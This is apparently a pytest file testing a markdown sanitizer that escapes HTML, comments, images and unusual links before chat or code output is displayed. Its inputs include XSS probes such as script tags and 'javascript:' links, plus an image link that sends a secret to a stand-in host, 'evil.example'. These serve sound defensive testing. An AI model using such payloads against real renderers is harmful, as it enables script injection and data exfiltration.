"""Markdown of a model or of code, made fit to be shown."""

import pytest

from interpreter.session.export.markdown import fenced, safe_markdown

HTML = "<script>alert(1)</script>"
ESCAPED = "&lt;script>alert(1)&lt;/script>"


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\n- one *two* **three**\n- `List<int>` and ``a ` <b>``\n\n| a | b |\n|---|---|",
        "See [the page](https://example.org/a) and [below](#there); 3 < 4, $a_1 < b$.",
        f"```python\n{HTML}\n![x](y)\n```\nwords",
        f"````\n```\n{HTML}\n````",
    ],
)
def test_what_is_harmless_stays_as_it_is(text):
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    "text",
    [
        HTML,
        f"a\n\n{HTML}",
        f"- a\n  ```\n{HTML}",  # this fence ends with its list
        f"> ```\n{HTML}",
        f"```\n   ```\n{HTML}",
        f"~~~\n~~~~\n{HTML}",
        f"\\`{HTML}`",
        f"`a\n{HTML}`",
        f"`a\n`{HTML}`",
        f"``a\nb`` `{HTML}",
        f"`a$`{HTML}`$",
        f"``{HTML}`",
        f"```a`b\n{HTML}",
        f"```\r```\r{HTML}",
    ],
)
def test_html_is_words(text):
    assert HTML not in safe_markdown(text)
    assert ESCAPED in safe_markdown(text)


def test_the_rest_is_not_hidden_by_a_comment():
    assert safe_markdown("a <!-- b\nc") == "a &lt;!-- b\nc"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?secret)", r"!\[x](https://evil.example/?secret)"),
        ("[x](javascript:alert(1))", r"[x\](javascript:alert(1))"),
        ("[x](&#106;avascript:alert(1))", r"[x\](&#106;avascript:alert(1))"),
        ("[x]: javascript:alert(1)", r"[x\]: javascript:alert(1)"),
        ("[x][y]", r"[x\][y]"),
        ("![x][y]", r"!\[x\][y]"),
    ],
)
def test_pictures_and_odd_links_are_words(text, shown):
    assert safe_markdown(text) == shown


def test_a_fence_is_longer_than_any_inside_and_its_language_is_a_word():
    assert fenced("a\n````\nb", "python") == "`````python\na\n````\nb\n`````"
    assert fenced("a", "python\n```\n<b>") == "```\na\n```"
